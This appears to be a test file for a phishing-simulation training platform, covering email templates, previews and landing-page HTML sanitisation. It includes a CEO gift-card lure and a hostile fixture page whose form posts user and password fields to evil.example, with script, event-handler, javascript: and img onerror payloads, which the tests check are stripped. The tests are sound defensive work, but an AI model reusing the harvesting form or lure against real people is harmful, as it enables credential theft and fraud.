import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrg, type TestOrg } from '../../../test/helpers/factories.ts';
import { createTestApp, type TestApp } from '../../../test/helpers/test-app.ts';
import { BUILT_IN_LANDING_PAGES, BUILT_IN_TEMPLATES } from './catalog/index.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const ownTemplate = (name = 'Gift card request') => ({
  name,
  category: 'Finance',
  difficulty: 'medium',
  subject: 'Quick favour, {{firstName}}?',
  senderName: 'Dana from the CEO office',
  senderAddress: 'dana.ceo@exec-office-mail.com',
  htmlBody:
    '<p>Hi {{firstName}},</p><p>Can you <a href="{{link}}">buy these gift cards</a> today?</p>{{trackingPixel}}',
  textBody: 'Hi {{firstName}},\nCan you buy these gift cards today? {{link}}',
  redFlags: ['Executives do not ask for gift cards by email.', 'The sender domain is not ours.'],
});

async function templates(org: TestOrg, query = '') {
  const response = await org.request({ method: 'GET', url: `/api/v1/phishing/templates${query}` });
  expect(response.statusCode, response.body).toBe(200);
  return response.json().data as Array<Record<string, any>>;
}

async function landingPages(org: TestOrg, query = '') {
  const response = await org.request({ method: 'GET', url: `/api/v1/phishing/landing-pages${query}` });
  expect(response.statusCode, response.body).toBe(200);
  return response.json().data as Array<Record<string, any>>;
}

async function auditActions(org: TestOrg) {
  const response = await org.request({ method: 'GET', url: '/api/v1/audit-log?limit=500' });
  return (response.json().data as Array<{ action: string; target: { id: string | null }; details: any }>).map(
    (e) => ({ action: e.action, targetId: e.target.id, details: e.details }),
  );
}

describe('email templates', () => {
  it('gives every organization the built-in library, read-only, once however often it is read', async () => {
    const org = await createOrg(t);
    const [first, again] = await Promise.all([templates(org), templates(org)]);
    expect(first.length).toBe(BUILT_IN_TEMPLATES.length);
    expect(again).toEqual(first);
    expect(first.every((tpl) => tpl.builtIn && tpl.status === 'active' && tpl.archivedAt === null)).toBe(
      true,
    );
    expect(first.map((tpl) => tpl.name).sort()).toEqual(BUILT_IN_TEMPLATES.map((b) => b.name).sort());
    const mfa = first.find((tpl) => tpl.name === 'Re-register sign-in verification')!;
    expect(mfa).toMatchObject({ difficulty: 'hard', category: 'IT & accounts', version: 1 });
    expect(mfa.redFlags.length).toBeGreaterThanOrEqual(3);
    expect(mfa).not.toHaveProperty('htmlBody');
    const detail = await org.request({ method: 'GET', url: `/api/v1/phishing/templates/${mfa.id}` });
    expect(detail.json().htmlBody).toContain('{{link}}');
    const other = await createOrg(t, 'Other');
    const theirs = await templates(other);
    expect(theirs.map((x) => x.id)).not.toContain(mfa.id);
  });

  it('creates, reads and edits an own template, each write audited', async () => {
    const org = await createOrg(t);
    const created = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/templates',
      payload: ownTemplate(),
    });
    expect(created.statusCode, created.body).toBe(201);
    const template = created.json();
    expect(template).toMatchObject({
      name: 'Gift card request',
      difficulty: 'medium',
      builtIn: false,
      status: 'active',
      version: 1,
      htmlBody: ownTemplate().htmlBody,
      redFlags: ownTemplate().redFlags,
    });
    const edited = await org.request({
      method: 'PUT',
      url: `/api/v1/phishing/templates/${template.id}`,
      payload: { ...ownTemplate('Gift cards, urgent'), difficulty: 'hard', redFlags: [] },
    });
    expect(edited.statusCode, edited.body).toBe(200);
    expect(edited.json()).toMatchObject({
      name: 'Gift cards, urgent',
      difficulty: 'hard',
      version: 2,
      redFlags: [],
    });
    const read = await org.request({ method: 'GET', url: `/api/v1/phishing/templates/${template.id}` });
    expect(read.json()).toEqual(edited.json());
    const own = (await templates(org)).filter((x) => !x.builtIn);
    expect(own.map((x) => x.name)).toEqual(['Gift cards, urgent']);
    expect((await auditActions(org)).slice(0, 2)).toEqual([
      {
        action: 'phishing_template.updated',
        targetId: template.id,
        details: { name: 'Gift cards, urgent', previousName: 'Gift card request', version: 2 },
      },
      { action: 'phishing_template.created', targetId: template.id, details: { name: 'Gift card request' } },
    ]);
  });

  it('refuses a template naming an unknown variable, or without {{link}}, and says which and where', async () => {
    const org = await createOrg(t);
    const unknown = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/templates',
      payload: { ...ownTemplate(), htmlBody: '<p>Hi {{first_name}}, {{link}} {{ manager }}</p>' },
    });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().detail).toBe(
      'The HTML body uses unknown variables {{first_name}}, {{manager}}: the variables are {{firstName}}, {{lastName}}, {{email}}, {{department}}, {{link}}, {{trackingPixel}}, {{reportLink}}.',
    );
    expect(unknown.json().errors).toEqual([
      { path: 'body.htmlBody', message: expect.stringContaining('{{first_name}}') },
    ]);
    const noLink = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/templates',
      payload: { ...ownTemplate(), subject: 'Hi {{name}}', textBody: 'No link here' },
    });
    expect(noLink.statusCode).toBe(400);
    expect(noLink.json().errors).toEqual([
      { path: 'body.subject', message: expect.stringContaining('{{name}}') },
      { path: 'body.textBody', message: 'must contain {{link}}, the link that is tracked' },
    ]);
    expect((await templates(org, '?status=all')).filter((x) => !x.builtIn)).toEqual([]);
  });

  it('keeps built-in templates read-only: editing is refused, cloning gives an editable copy', async () => {
    const org = await createOrg(t);
    const builtIn = (await templates(org)).find((x) => x.name === 'Overdue invoice')!;
    const refused = await org.request({
      method: 'PUT',
      url: `/api/v1/phishing/templates/${builtIn.id}`,
      payload: ownTemplate(),
    });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toBe(
      '"Overdue invoice" is a built-in template and cannot be edited: clone it to make your own version.',
    );
    const clone = await org.request({
      method: 'POST',
      url: `/api/v1/phishing/templates/${builtIn.id}/clone`,
    });
    expect(clone.statusCode).toBe(201);
    const source = (
      await org.request({ method: 'GET', url: `/api/v1/phishing/templates/${builtIn.id}` })
    ).json();
    expect(clone.json()).toMatchObject({
      name: 'Copy of Overdue invoice',
      builtIn: false,
      version: 1,
      subject: source.subject,
      htmlBody: source.htmlBody,
      textBody: source.textBody,
      redFlags: source.redFlags,
      difficulty: source.difficulty,
      category: source.category,
    });
    const edited = await org.request({
      method: 'PUT',
      url: `/api/v1/phishing/templates/${clone.json().id}`,
      payload: { ...ownTemplate('My invoice lure'), subject: 'Invoice for {{firstName}}' },
    });
    expect(edited.statusCode).toBe(200);
    expect(source.version).toBe(1);
    expect((await auditActions(org))[1]).toEqual({
      action: 'phishing_template.created',
      targetId: clone.json().id,
      details: { name: 'Copy of Overdue invoice', clonedFrom: builtIn.id },
    });
  });

  it('archives and restores templates (built-in ones too), filtering lists by status, difficulty and search', async () => {
    const org = await createOrg(t);
    const own = (
      await org.request({ method: 'POST', url: '/api/v1/phishing/templates', payload: ownTemplate() })
    ).json();
    const parcel = (await templates(org)).find((x) => x.name === 'Missed parcel delivery')!;
    for (const id of [own.id, parcel.id]) {
      const archived = await org.request({ method: 'POST', url: `/api/v1/phishing/templates/${id}/archive` });
      expect(archived.json()).toMatchObject({ status: 'archived', archivedAt: t.clock.now().toISOString() });
      // Archiving again changes nothing and records nothing.
      await org.request({ method: 'POST', url: `/api/v1/phishing/templates/${id}/archive` });
    }
    expect((await templates(org)).map((x) => x.id)).not.toContain(own.id);
    expect((await templates(org, '?status=archived')).map((x) => x.name)).toEqual([
      'Missed parcel delivery',
      'Gift card request',
    ]);
    expect((await templates(org, '?status=all')).length).toBe(BUILT_IN_TEMPLATES.length + 1);
    const easy = await templates(org, '?difficulty=easy');
    expect(easy.length).toBeGreaterThan(0);
    expect(easy.every((x) => x.difficulty === 'easy')).toBe(true);
    expect((await templates(org, '?search=PAYROLL')).map((x) => x.name)).toEqual([
      'Confirm payroll bank details',
    ]);
    expect((await templates(org, '?search=voicemail')).map((x) => x.name)).toEqual(['New voicemail message']);
    // % and _ are matched literally.
    expect((await templates(org, '?search=98%25')).map((x) => x.name)).toEqual(['Mailbox almost full']);
    expect(await templates(org, '?search=9_%25')).toEqual([]);

    const restored = await org.request({
      method: 'POST',
      url: `/api/v1/phishing/templates/${own.id}/restore`,
    });
    expect(restored.json()).toMatchObject({ status: 'active', archivedAt: null });
    const actions = (await auditActions(org)).map((e) => e.action);
    expect(actions.slice(0, 3)).toEqual([
      'phishing_template.restored',
      'phishing_template.archived',
      'phishing_template.archived',
    ]);
    expect(actions.filter((a) => a === 'phishing_template.archived')).toHaveLength(2);
  });

  it('answers 404 for a template that does not exist', async () => {
    const org = await createOrg(t);
    const missing = await org.request({
      method: 'GET',
      url: '/api/v1/phishing/templates/3b241101-e2bb-4255-8caf-4136c566a962',
    });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().detail).toBe('Template was not found.');
  });
});

describe('template preview', () => {
  it('renders a draft for a sample person, escaping in HTML, with the report footer and the teachable moment', async () => {
    const org = await createOrg(t, 'Preview & Co');
    const response = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/templates/preview',
      payload: {
        subject: 'Hello {{firstName}}',
        senderName: 'IT Desk',
        senderAddress: 'it@desk.example',
        htmlBody: '<p>Hi {{firstName}} {{lastName}}</p><a href="{{link}}">Go</a>{{trackingPixel}}',
        textBody: 'Hi {{firstName}} {{link}}',
        redFlags: ['The <sender> is odd.', '  '],
        sampleUser: {
          firstName: '<script>x</script>',
          lastName: 'Archer',
          email: 'a@b.test',
          department: null,
        },
      },
    });
    expect(response.statusCode, response.body).toBe(200);
    const preview = response.json();
    expect(preview.subject).toBe('Hello <script>x</script>');
    expect(preview.from).toBe('IT Desk <it@desk.example>');
    expect(preview.html).toContain('<p>Hi &lt;script&gt;x&lt;/script&gt; Archer</p>');
    expect(preview.html).toContain(
      '<a href="https://phish.example/preview/link">Go</a><img src="data:image/gif;base64,',
    );
    expect(preview.html).toContain('href="https://phish.example/preview/report"');
    expect(preview.text).toContain('Hi <script>x</script> https://phish.example/preview/link');
    expect(preview.teachableMoment).toContain('<li>The &lt;sender&gt; is odd.</li></ul>');
    expect(preview.teachableMoment).toContain('Preview &amp; Co');
    expect(preview.problems).toEqual([]);
  });

  it('uses a sample person by default and reports what saving would refuse, without refusing', async () => {
    const org = await createOrg(t);
    const response = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/templates/preview',
      payload: { subject: 'Hi {{firstName}} {{nickname}}', htmlBody: '<p>{{department}}</p>' },
    });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({
      subject: 'Hi Alex {{nickname}}',
      from: '',
      text: '--\nThink this email is suspicious? Report it: https://phish.example/preview/report\n',
      problems: [
        { path: 'body.subject', message: expect.stringContaining('{{nickname}}') },
        { path: 'body.htmlBody', message: 'must contain {{link}}, the link that is tracked' },
      ],
    });
    expect(response.json().html).toContain('<p>Finance</p>');
    expect(await auditActions(org)).not.toContainEqual(
      expect.objectContaining({ action: expect.stringMatching(/^phishing/) }),
    );
  });
});

describe('landing pages', () => {
  const hostile = `<!doctype html><html><head><script>steal()</script></head><body onload="x()">
<form action="https://evil.example/collect" method="post"><input name="user" type="email" onfocus="x()">
<input name="password" type="password"><button name="go" formaction="https://evil.example">Sign in</button></form>
<a href="javascript:alert(1)">Help</a></body></html>`;

  it('gives every organization the built-in pages, each with one form', async () => {
    const org = await createOrg(t);
    const pages = await landingPages(org);
    expect(pages.map((p) => p.name).sort()).toEqual(BUILT_IN_LANDING_PAGES.map((p) => p.name).sort());
    expect(pages.every((p) => p.builtIn && p.formCount === 1 && p.status === 'active')).toBe(true);
    const detail = (
      await org.request({ method: 'GET', url: `/api/v1/phishing/landing-pages/${pages[0]!.id}` })
    ).json();
    expect(detail.html).toContain('<form autocomplete="off">');
    expect(detail.html).not.toMatch(/\sname="(email|password)"/);
  });

  it('stores an admin page prepared: no scripts, handlers, actions or input names', async () => {
    const org = await createOrg(t);
    const created = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/landing-pages',
      payload: { name: 'Intranet sign-in', html: hostile },
    });
    expect(created.statusCode, created.body).toBe(201);
    const page = created.json();
    expect(page).toMatchObject({ name: 'Intranet sign-in', builtIn: false, formCount: 1, version: 1 });
    expect(page.html).toBe(`<!doctype html>
<html><head></head><body>
<form><input type="email" />
<input type="password" /><button>Sign in</button></form>
<a>Help</a></body></html>`);
    const { rows } = await t.database.db
      .selectFrom('phishing_landing_pages')
      .select('html')
      .where('org_id', '=', org.orgId)
      .where('id', '=', page.id)
      .execute()
      .then((r) => ({ rows: r }));
    expect(rows[0]!.html).toBe(page.html);

    const edited = await org.request({
      method: 'PUT',
      url: `/api/v1/phishing/landing-pages/${page.id}`,
      payload: { name: 'Intranet', html: '<p>No form <img src=x onerror=alert(1)></p>' },
    });
    expect(edited.json()).toMatchObject({
      name: 'Intranet',
      html: '<p>No form <img src="x" /></p>',
      formCount: 0,
      version: 2,
    });
    expect((await auditActions(org)).slice(0, 2).map((e) => e.action)).toEqual([
      'phishing_landing_page.updated',
      'phishing_landing_page.created',
    ]);
  });

  it('previews a page as it would be stored, writing nothing', async () => {
    const org = await createOrg(t);
    const response = await org.request({
      method: 'POST',
      url: '/api/v1/phishing/landing-pages/preview',
      payload: { html: hostile },
    });
    expect(response.statusCode).toBe(200);
    expect(response.json().formCount).toBe(1);
    expect(response.json().html).not.toMatch(/script|onload|onfocus|evil|name=|javascript/);
    expect(await auditActions(org)).not.toContainEqual(
      expect.objectContaining({ action: expect.stringMatching(/^phishing/) }),
    );
  });

  it('keeps built-in pages read-only, clones them, archives and restores', async () => {
    const org = await createOrg(t);
    const builtIn = (await landingPages(org)).find((p) => p.name === 'Account sign-in')!;
    const refused = await org.request({
      method: 'PUT',
      url: `/api/v1/phishing/landing-pages/${builtIn.id}`,
      payload: { name: 'Mine', html: '<p>x</p>' },
    });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toContain('is a built-in landing page and cannot be edited');
    const clone = await org.request({
      method: 'POST',
      url: `/api/v1/phishing/landing-pages/${builtIn.id}/clone`,
    });
    expect(clone.statusCode).toBe(201);
    expect(clone.json()).toMatchObject({ name: 'Copy of Account sign-in', builtIn: false, formCount: 1 });
    const source = (
      await org.request({ method: 'GET', url: `/api/v1/phishing/landing-pages/${builtIn.id}` })
    ).json();
    expect(clone.json().html).toBe(source.html);

    const archived = await org.request({
      method: 'POST',
      url: `/api/v1/phishing/landing-pages/${clone.json().id}/archive`,
    });
    expect(archived.json().status).toBe('archived');
    expect((await landingPages(org)).map((p) => p.id)).not.toContain(clone.json().id);
    expect((await landingPages(org, '?status=archived')).map((p) => p.id)).toEqual([clone.json().id]);
    expect((await landingPages(org, '?search=shared')).map((p) => p.name)).toEqual([
      'Shared document: sign in to view',
    ]);
    const restored = await org.request({
      method: 'POST',
      url: `/api/v1/phishing/landing-pages/${clone.json().id}/restore`,
    });
    expect(restored.json().status).toBe('active');
    expect((await auditActions(org)).slice(0, 3).map((e) => e.action)).toEqual([
      'phishing_landing_page.restored',
      'phishing_landing_page.archived',
      'phishing_landing_page.created',
    ]);
  });
});
